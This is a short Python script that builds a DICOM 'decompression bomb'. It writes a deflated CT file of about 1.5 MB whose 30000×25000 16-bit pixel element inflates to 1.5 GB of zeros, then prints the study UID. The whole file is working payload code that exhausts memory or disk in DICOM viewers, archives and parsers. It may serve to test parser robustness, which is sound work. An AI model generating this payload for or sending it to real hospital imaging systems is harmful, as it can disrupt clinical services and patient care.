"""Writes a deflated CT of 1.5 GB of zeros in about 1.5 MB: python make_bomb.py FILE. Prints its study's UID."""

import io
import sys
import zlib

import pydicom
from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.filewriter import write_dataset, write_file_meta_info
from pydicom.uid import CTImageStorage, DeflatedExplicitVRLittleEndian

STUDY = "1.2.826.0.1.3680043.10.1.8.1"
BYTES = 1_500_000_000

ds = Dataset()
ds.SOPClassUID, ds.SOPInstanceUID = CTImageStorage, f"{STUDY}.1.1"
ds.StudyInstanceUID, ds.SeriesInstanceUID = STUDY, f"{STUDY}.1"
ds.Modality, ds.PatientID, ds.PatientName, ds.StudyDate = "CT", "BOMB", "Bomb^Zip", "20260101"
ds.Rows, ds.Columns, ds.NumberOfFrames = 30000, 25000, "1"
ds.BitsAllocated = ds.BitsStored = 16
ds.HighBit, ds.PixelRepresentation, ds.SamplesPerPixel = 15, 0, 1
ds.PhotometricInterpretation = "MONOCHROME2"

head = pydicom.filebase.DicomBytesIO()
head.is_little_endian, head.is_implicit_VR = True, False
write_dataset(head, ds)
pixels = b"\xe0\x7f\x10\x00OW\0\0" + BYTES.to_bytes(4, "little")

meta = FileMetaDataset()
meta.MediaStorageSOPClassUID, meta.MediaStorageSOPInstanceUID = CTImageStorage, f"{STUDY}.1.1"
meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
meta.ImplementationClassUID = "1.2.3"
meta_bytes = io.BytesIO()
write_file_meta_info(meta_bytes, meta)

packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
with open(sys.argv[1], "wb") as file:
    file.write(b"\0" * 128 + b"DICM" + meta_bytes.getvalue())
    file.write(packer.compress(head.getvalue() + pixels))
    block = bytes(10_000_000)
    for _ in range(BYTES // len(block)):
        file.write(packer.compress(block))
    file.write(packer.flush())
print(STUDY)
